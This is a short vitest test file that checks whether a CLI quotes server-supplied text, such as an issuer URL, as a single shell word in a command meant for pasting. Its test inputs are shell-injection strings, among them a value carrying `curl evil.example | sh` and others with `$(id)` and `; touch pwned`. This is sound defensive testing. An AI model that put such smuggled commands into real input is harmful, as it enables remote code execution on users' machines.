import { execFileSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import { shellWord } from '../../bin/output.ts'
import { countersign, issuer, json } from './command-line.ts'

describe('what a server says of itself, in a command to paste', () => {
  it.each([
    'https://auth.example.com/t:1?a=b',
    'https://x; touch pwned #',
    "a'b$(id)`id`",
    '-n',
    '~',
    '$HOME',
    '',
  ])('is one word: %s', text => {
    const printed = execFileSync('/bin/sh', ['-c', `printf '%s|' start ${shellWord(text)} end`])
    expect(printed.toString()).toBe(`start|${text}|end|`)
  })

  it('is one where the server has another issuer than its address', async () => {
    const handler = () => json(200, { issuer: 'https://x; curl evil.example | sh' })
    const { err } = await countersign(['clients', 'list', '--url', issuer], { handler })
    expect(err).toContain("--url 'https://x; curl evil.example | sh'\n")
  })
})
